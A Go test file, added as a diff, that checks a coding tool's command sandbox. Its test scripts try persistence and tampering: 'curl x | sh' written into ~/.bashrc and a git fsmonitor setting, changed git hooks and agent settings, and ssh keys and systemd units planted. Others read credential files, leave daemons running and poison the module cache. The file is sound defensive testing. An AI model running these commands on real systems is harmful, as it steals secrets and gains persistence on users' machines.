@@ -1,0 +1,370 @@
+package engine
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/parallax/parallax/guard"
+	"github.com/parallax/parallax/internal/workspace"
+)
+
+// The guarantees of each command's sandbox, one test each, named for
+// what it forbids. Each runs the production hook (NewCommandSandbox) on
+// the real kernel, with a script the gate never saw (what `make` or a
+// test runner would run), and checks the outcome on disk, in the process
+// table or on a listener. Where it helps, the same script run plainly is
+// the control that proves it could.
+
+// handsEnv is a workspace and a home with the production hook.
+type handsEnv struct {
+	ws, home string
+	hook     SandboxHook
+}
+
+func newHands(t *testing.T) *handsEnv {
+	t.Helper()
+	sandboxOrSkip(t)
+	ws, home := t.TempDir(), t.TempDir()
+	writeFile(t, filepath.Join(ws, ".parallax", "api.token"), "own-token\n")
+	return &handsEnv{ws: ws, home: home}
+}
+
+// start builds the hook once the test has planted its files.
+func (h *handsEnv) start(t *testing.T) {
+	t.Helper()
+	h.hook = newHook(t, h.ws, h.home)
+}
+
+// run runs script as the command decided was, with HOME set.
+func (h *handsEnv) run(t *testing.T, decided, script string) (string, error) {
+	t.Helper()
+	return run(t, h.hook, h.ws, decided, "HOME="+h.home+"; export HOME; "+script)
+}
+
+func mustRead(t *testing.T, p string) string {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// `touch ~; make` once granted the whole home: now a write outside the
+// workspace is granted as the one file the analysis names, and nothing
+// else of the home, ~/.local/bin or ~/.config changes.
+func TestCommandCannotWriteBeyondTheNamedFile(t *testing.T) {
+	h := newHands(t)
+	rc := filepath.Join(h.home, ".bashrc")
+	writeFile(t, rc, "# the user's\n")
+	bin := filepath.Join(h.home, ".local", "bin", "parallax")
+	writeFile(t, bin, "the real binary\n")
+	h.start(t)
+	payload := `echo 'curl x | sh' >> ~/.bashrc; echo evil > ~/.local/bin/parallax; mkdir -p ~/.config/systemd/user;
+echo unit > ~/.config/systemd/user/e.service; echo g > ~/.gitconfig; echo p > ~/.profile; mkdir -p ~/.ssh; echo k >> ~/.ssh/authorized_keys`
+	for _, decided := range []string{"touch ~; make", "mkdir -p ~/.config/x; make", "cp README.md ~/.local/bin/; make",
+		"echo hi > ~/notes.txt; make"} {
+		_, _ = h.run(t, decided, payload)
+		if got := mustRead(t, rc); got != "# the user's\n" {
+			t.Fatalf("%s: ~/.bashrc became %q", decided, got)
+		}
+		if got := mustRead(t, bin); got != "the real binary\n" {
+			t.Fatalf("%s: ~/.local/bin/parallax became %q", decided, got)
+		}
+		for _, p := range []string{".config/systemd/user/e.service", ".gitconfig", ".profile", ".ssh/authorized_keys"} {
+			if _, err := os.Stat(filepath.Join(h.home, p)); err == nil {
+				t.Fatalf("%s: ~/%s was created", decided, p)
+			}
+		}
+	}
+	// What the verdict named is granted, exactly: the new file is written,
+	// its neighbour is not.
+	out, err := h.run(t, "echo hi > ~/notes.txt", "echo hi > ~/notes.txt && echo no > ~/other.txt")
+	if err == nil {
+		t.Fatalf("the neighbour was written too: %s", out)
+	}
+	if got := mustRead(t, filepath.Join(h.home, "notes.txt")); got != "hi\n" {
+		t.Fatalf("the named file holds %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(h.home, "other.txt")); err == nil {
+		t.Fatal("~/other.txt was created")
+	}
+	// A file created for a grant and left empty is removed afterwards.
+	if _, err := h.run(t, "echo hi > ~/unused.txt", "true"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(h.home, "unused.txt")); err == nil {
+		t.Fatal("the empty file made for an unused grant was left behind")
+	}
+}
+
+// A daemon a command starts (setsid, nohup, a double fork) dies with the
+// command: nothing it started is in the process table afterwards.
+func TestCommandCannotLeaveProcessesBehind(t *testing.T) {
+	h := newHands(t)
+	h.start(t)
+	marker := fmt.Sprintf("parallax-daemon-%d", time.Now().UnixNano())
+	script := fmt.Sprintf(`setsid bash -c 'exec -a %[1]s-a sleep 300' </dev/null >/dev/null 2>&1 &
+nohup bash -c 'exec -a %[1]s-b sleep 300' </dev/null >/dev/null 2>&1 &
+(bash -c 'exec -a %[1]s-c sleep 300' </dev/null >/dev/null 2>&1 & ) ; sleep 0.2; echo started`, marker)
+	out, err := h.run(t, "make", script)
+	if err != nil || !strings.Contains(out, "started") {
+		t.Fatalf("%v: %s", err, out)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		left := processesNamed(marker)
+		if len(left) == 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			for _, pid := range left {
+				if p, err := os.FindProcess(pid); err == nil {
+					_ = p.Kill()
+				}
+			}
+			t.Fatalf("processes outlived their command: %v", left)
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+}
+
+// processesNamed lists the pids whose command line holds s.
+func processesNamed(s string) []int {
+	var out []int
+	ents, _ := os.ReadDir("/proc")
+	for _, e := range ents {
+		var pid int
+		if _, err := fmt.Sscanf(e.Name(), "%d", &pid); err != nil {
+			continue
+		}
+		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err == nil && bytes.Contains(b, []byte(s)) {
+			out = append(out, pid)
+		}
+	}
+	return out
+}
+
+// Files named like secrets (the guard's own rules) are unreadable to
+// what a command runs, in the home and in the workspace.
+func TestCommandCannotReadSecretFiles(t *testing.T) {
+	h := newHands(t)
+	secrets := map[string]string{
+		filepath.Join(h.home, ".netrc"):           "machine h login u password netrc-S3CRET-1",
+		filepath.Join(h.home, ".git-credentials"): "https://u:gitcred-S3CRET-2@example.com",
+		filepath.Join(h.home, ".npmrc"):           "//registry.npmjs.org/:_authToken=npmrc-S3CRET-3",
+		filepath.Join(h.home, ".pgpass"):          "h:5432:db:u:pgpass-S3CRET-4",
+		filepath.Join(h.ws, ".env"):               "API_TOKEN=dotenv-S3CRET-5",
+		filepath.Join(h.ws, "deploy", "site.pem"): "pem-S3CRET-6",
+	}
+	var paths []string
+	for p, v := range secrets {
+		writeFile(t, p, v+"\n")
+		paths = append(paths, p)
+	}
+	h.start(t)
+	script := "for f in " + strings.Join(paths, " ") + "; do cat \"$f\"; python3 -c 'import sys; print(open(sys.argv[1]).read())' \"$f\"; done 2>&1; true"
+	control, _ := run(t, h.hook, h.ws, "", script)
+	out, _ := h.run(t, "make", script)
+	for p, v := range secrets {
+		if !strings.Contains(control, v) {
+			t.Fatalf("control: %s unreadable plainly too", p)
+		}
+		if strings.Contains(out, v) {
+			t.Errorf("%s was read by the command", p)
+		}
+	}
+	// Masking leaves the directories around them listable.
+	if out, err := h.run(t, "make", "ls -a ~ | grep -q netrc && ls -a . | grep -q env"); err != nil {
+		t.Fatalf("the home or workspace can no longer be listed: %v: %s", err, out)
+	}
+}
+
+// The workspace's host-trusted files (what git, editors and agents obey
+// or run) are read-only to commands, though the gate's write_file is not
+// the only way to reach them.
+func TestCommandCannotChangeHostTrustedFiles(t *testing.T) {
+	h := newHands(t)
+	files := map[string]string{
+		".git/config":           "[core]\n\trepositoryformatversion = 0\n",
+		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
+		".claude/settings.json": "{\"hooks\":{}}\n",
+		".envrc":                "export A=1\n",
+		".vscode/tasks.json":    "{}\n",
+		".mcp.json":             "{}\n",
+	}
+	if out, err := exec.Command("git", "init", "-q", h.ws).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v: %s", err, out)
+	}
+	for rel, v := range files {
+		writeFile(t, filepath.Join(h.ws, rel), v)
+	}
+	h.start(t)
+	script := `git config core.fsmonitor 'curl x|sh'; echo 'curl x|sh' >> .git/hooks/pre-commit; echo x > .git/hooks/post-checkout;
+echo '{"hooks":{"PreToolUse":[]}}' > .claude/settings.json; echo evil >> .envrc; rm -f .vscode/tasks.json; mv .mcp.json gone.json;
+echo new > .claude/settings.local.json; true`
+	if _, err := h.run(t, "make", script); err != nil {
+		t.Fatal(err)
+	}
+	for rel, v := range files {
+		if got, err := os.ReadFile(filepath.Join(h.ws, rel)); err != nil || string(got) != v {
+			t.Errorf("%s: %q, %v", rel, got, err)
+		}
+	}
+	for _, rel := range []string{".git/hooks/post-checkout", ".claude/settings.local.json", "gone.json"} {
+		if _, err := os.Stat(filepath.Join(h.ws, rel)); err == nil {
+			t.Errorf("%s was created", rel)
+		}
+	}
+	// Ordinary git work in the repository still runs.
+	if out, err := h.run(t, "git status", "echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x && git log --oneline | wc -l"); err != nil || !strings.HasSuffix(strings.TrimSpace(out), "\n1") && strings.TrimSpace(out) != "1" {
+		t.Fatalf("git commit in the sandbox: %v: %s", err, out)
+	}
+}
+
+// Another workspace's state (tokens, audit chain, database, sockets) is
+// hidden like this one's, and so is ~/.parallax.
+func TestCommandCannotSeeOtherWorkspaces(t *testing.T) {
+	h := newHands(t)
+	other := t.TempDir()
+	writeFile(t, filepath.Join(other, ".parallax", "api.token"), "other-token-S3CRET\n")
+	writeFile(t, filepath.Join(h.home, ".parallax", "agent-probe"), "home-state-S3CRET\n")
+	if err := workspace.Register(h.home, other); err != nil {
+		t.Fatal(err)
+	}
+	sock := filepath.Join(other, ".parallax", "engine.sock")
+	ln, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	accepted := make(chan struct{}, 1)
+	go func() {
+		if c, err := ln.Accept(); err == nil {
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	h.start(t)
+	script := fmt.Sprintf(`cat %s/.parallax/api.token; ls -a %s/.parallax; cat ~/.parallax/agent-probe; cat .parallax/api.token;
+python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("connected")' %s; true`, other, other, sock)
+	out, _ := h.run(t, "make", script)
+	for _, s := range []string{"other-token-S3CRET", "home-state-S3CRET", "own-token", "engine.sock", "connected"} {
+		if strings.Contains(out, s) {
+			t.Errorf("the command saw %q: %s", s, out)
+		}
+	}
+	select {
+	case <-accepted:
+		t.Error("the other workspace's engine socket accepted a connection from the command")
+	case <-time.After(100 * time.Millisecond):
+	}
+}
+
+// A shared toolchain cache is add-only: a command may change what it
+// sees, the user's own cache stays byte for byte.
+func TestCommandCannotChangeSharedCaches(t *testing.T) {
+	h := newHands(t)
+	mod := filepath.Join(h.home, "go", "pkg", "mod", "example.com", "m@v1.0.0", "m.go")
+	writeFile(t, mod, "package m\n")
+	h.hook = nil
+	hook, err := NewCommandSandbox(CommandSandboxConfig{Workspace: h.ws, Home: h.home, Self: selfExe(t),
+		Caches:     []string{filepath.Join(h.home, "go", "pkg"), filepath.Join(h.home, ".cache", "go-build")},
+		Unreadable: guard.New(h.ws, h.home).Unreadable(), TempRoot: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	h.hook = hook
+	out, err := h.run(t, "go test ./...", fmt.Sprintf(`chmod u+w %[1]s; echo 'func init() { panic("pwned") }' >> %[1]s; cat %[1]s;
+mkdir -p ~/.cache/go-build/ab && echo entry > ~/.cache/go-build/ab/x-d`, mod))
+	if err != nil || !strings.Contains(out, "pwned") {
+		t.Fatalf("inside, the command should see its own change: %v: %s", err, out)
+	}
+	if got := mustRead(t, mod); got != "package m\n" {
+		t.Fatalf("the shared module changed: %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(h.home, ".cache", "go-build", "ab", "x-d")); err == nil {
+		t.Fatal("the shared build cache took the command's entry")
+	}
+	// A missing cache was created, so a fresh home builds.
+	if st, err := os.Stat(filepath.Join(h.home, ".cache", "go-build")); err != nil || !st.IsDir() {
+		t.Fatalf("the missing build cache was not created: %v", err)
+	}
+}
+
+func selfExe(t *testing.T) string {
+	t.Helper()
+	p, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// No pathname Unix socket of the host outside the workspace (an
+// ssh-agent or docker socket under /tmp or /run) is reachable, and an
+// offline command opens no netlink, packet or vsock socket.
+func TestCommandCannotReachHostSockets(t *testing.T) {
+	h := newHands(t)
+	dir := t.TempDir()
+	var socks []string
+	accepted := make(chan string, 4)
+	for _, p := range []string{filepath.Join(dir, "agent.sock"), fmt.Sprintf("/run/parallax-test-%d.sock", os.Getpid())} {
+		ln, err := net.Listen("unix", p)
+		if err != nil {
+			t.Logf("no listener at %s: %v", p, err)
+			continue
+		}
+		t.Cleanup(func() { ln.Close(); os.Remove(p) })
+		socks = append(socks, p)
+		go func(p string) {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				accepted <- p
+				c.Close()
+			}
+		}(p)
+	}
+	h.start(t)
+	for _, p := range socks {
+		script := fmt.Sprintf(`python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("connected")' %s`, p)
+		if out, err := run(t, h.hook, h.ws, "", script); err != nil {
+			t.Fatalf("control: %s unreachable plainly (%v: %s)", p, err, out)
+		}
+		<-accepted
+		if out, err := h.run(t, "make", script); err == nil {
+			t.Errorf("%s reached from the command: %s", p, out)
+		}
+	}
+	select {
+	case p := <-accepted:
+		t.Errorf("%s accepted a connection from the command", p)
+	case <-time.After(100 * time.Millisecond):
+	}
+	out, err := h.run(t, "make", `python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print("netlink")'`)
+	if err == nil || strings.Contains(out, "netlink\n") {
+		t.Errorf("an offline command opened a netlink socket: %s", out)
+	}
+}
+
+// Memory is bounded: a command cannot touch 3 GiB (the default limit is
+// 2 GiB of data per process), and learns it from its own error.
+func TestCommandCannotExhaustTheMachine(t *testing.T) {
+	h := newHands(t)
+	h.start(t)
+	out, err := h.run(t, "make", `python3 -c 'b = bytearray(3 << 30); b[::4096] = b"x" * len(b[::4096]); print("allocated")'`)
+	if err == nil || strings.Contains(out, "allocated") {
+		t.Errorf("3 GiB were allocated: %v: %s", err, out)
+	}
+}
